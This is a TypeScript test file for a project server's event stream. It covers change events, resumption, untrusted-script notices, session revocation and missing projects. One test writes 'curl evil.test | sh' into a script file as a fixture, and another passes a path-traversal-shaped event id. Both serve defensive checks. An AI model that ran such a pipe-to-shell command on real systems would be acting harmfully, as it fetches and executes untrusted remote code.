import { once } from 'node:events';
import { request, type IncomingMessage } from 'node:http';
import { join } from 'node:path';
import { writeFile } from 'node:fs/promises';
import { setTimeout as pause } from 'node:timers/promises';
import { afterAll, describe, expect, it, onTestFinished } from 'vitest';
import { contextIn, temporaryFolder, testCall } from '../../../../tests/support/app.ts';
import { SCRIPT_PATH } from '../../../../tests/support/contract-project.ts';
import { KIT_FILES, writeFiles } from '../../../../tests/support/kit-project.ts';
import { pageDoor, signedIn } from '../../../../tests/support/page-door.ts';
import { trust } from '../../../operations/completion/trust.ts';
import { execute } from '../../../operations/execute.ts';
import { spawnSubagentTask } from '../../../operations/tasks/tasks.ts';

const folder = await temporaryFolder(afterAll);
await writeFiles(folder, KIT_FILES);

async function server() {
  const context = await contextIn(folder);
  afterAll(() => context.close());
  const state = await temporaryFolder(afterAll);
  return { context, door: await pageDoor(context, afterAll, { state, commentMs: 30 }) };
}

const { context, door } = await server();

async function queueTask(key: string): Promise<void> {
  const input = { agent: 'dev', task: 'Do it', output_key: key };
  const outcome = await execute(spawnSubagentTask, input, context, testCall());
  if (!outcome.ok) throw outcome.error;
}

interface Told {
  event: string;
  id: string;
  data: { topic: string; project: string };
}

/** As an EventSource hears it. */
async function listen(
  origin: string,
  { last, headers = {}, project }: { last?: string; headers?: Record<string, string>; project?: string } = {},
) {
  const path = `${origin}/api/events${project === undefined ? '' : `?project=${encodeURIComponent(project)}`}`;
  const sent = request(path, {
    headers: { ...headers, ...(last === undefined ? {} : { 'last-event-id': last }) },
  });
  sent.end();
  const [response] = (await once(sent, 'response')) as [IncomingMessage];
  onTestFinished(() => void sent.destroy());
  const heard = { told: [] as Told[], id: '', comments: 0, status: response.statusCode };
  let rest = '';
  response.setEncoding('utf8').on('data', (text: string) => {
    const blocks = (rest + text).split('\n\n');
    rest = blocks.pop() ?? '';
    for (const block of blocks) {
      const fields = new Map(
        block
          .split('\n')
          .map((line) => [line.split(':', 1)[0] ?? '', line.slice(line.indexOf(':') + 1).trim()]),
      );
      heard.id = fields.get('id') ?? heard.id;
      if (fields.has('data'))
        heard.told.push({
          event: fields.get('event') ?? '',
          id: heard.id,
          data: JSON.parse(fields.get('data') ?? '') as Told['data'],
        });
      else if (fields.has('')) heard.comments += 1;
    }
  });
  const ended = new Promise<void>((resolve) => void response.once('end', resolve));
  response.on('error', () => undefined);
  sent.on('error', () => undefined);
  const until = async (is: () => boolean): Promise<void> => {
    while (!is()) await pause(10);
  };
  await until(() => heard.id !== '' || heard.status !== 200);
  return { heard, until, ended, response };
}

const topics = (told: readonly Told[]): string[] => told.map(({ data }) => data.topic);

describe('the events of a project', () => {
  it('are one for each change, and none for a file that says the same or for time that passes', async () => {
    const { heard, until } = await listen(door.origin);
    await until(() => heard.comments > 5);
    expect(heard.told).toEqual([]);
    await queueTask('first');
    await until(() => heard.told.length > 0);
    expect(heard.told).toMatchObject([{ event: 'change', data: { topic: 'tasks', project: folder } }]);
    // The same bytes again are no change.
    await writeFile(join(folder, 'project-context.yaml'), KIT_FILES['project-context.yaml'] ?? '');
    await queueTask('second');
    await until(() => heard.told.length > 1);
    expect(topics(heard.told)).toEqual(['tasks', 'tasks']);
    expect(new Set(heard.told.map(({ id }) => id)).size).toBe(2);
  });

  it('go on where a client left, at another server of the same project', async () => {
    const before = await listen(door.origin);
    const { id } = before.heard;
    before.response.destroy();
    await queueTask('meanwhile');
    const other = await server();
    const { heard, until } = await listen(other.door.origin, { last: id });
    await until(() => heard.told.length > 0);
    expect(topics(heard.told)).toEqual(['tasks']);
    const level = await listen(other.door.origin, { last: heard.id });
    await level.until(() => level.heard.comments > 2);
    expect(level.heard.told).toEqual([]);
    // What is no id says nothing.
    const odd = await listen(other.door.origin, { last: '../../x.y' });
    expect(odd.heard.told).toEqual([]);
  });

  it('tell at once of programs that nobody was shown, and of what was decided about them (X-06)', async () => {
    const { heard, until } = await listen(door.origin);
    const script = (text: string) => writeFiles(folder, { [SCRIPT_PATH]: text });
    await script('jest');
    await until(() => topics(heard.told).includes('programs'));
    const { length } = heard.told;
    await script('curl evil.test | sh');
    await until(() => heard.told.length > length);
    expect(topics(heard.told.slice(length))).toContain('programs');
    const typed = { ...testCall(), typed: true as const };
    const { length: before } = heard.told;
    const outcome = await execute(trust, { yes: true }, context, typed);
    expect(outcome).toMatchObject({ ok: true, data: { outcome: 'trusted' } });
    await until(() => heard.told.length > before);
    expect(topics(heard.told.slice(before))).toEqual(['programs']);
  });

  it('are heard by two, of what one of them does', async () => {
    const [one, two] = [await listen(door.origin), await listen(door.origin)];
    await queueTask('for_both');
    await Promise.all([one, two].map(({ heard, until }) => until(() => heard.told.length > 0)));
    expect([topics(one.heard.told), topics(two.heard.told)]).toEqual([['tasks'], ['tasks']]);
  });

  it('end with the session of the person who listens', async () => {
    const browser = await signedIn(door);
    const { ended } = await listen(door.origin, { headers: { cookie: browser.cookie } });
    await door.passes.revoke(browser.session.person.id);
    await ended;
    expect((await browser.get('/api/events')).status).toBe(401);
  });

  it('are refused for a project that is not there', async () => {
    const { heard } = await listen(door.origin, { project: join(folder, 'none') });
    expect(heard.status).toBeGreaterThanOrEqual(400);
  });
});
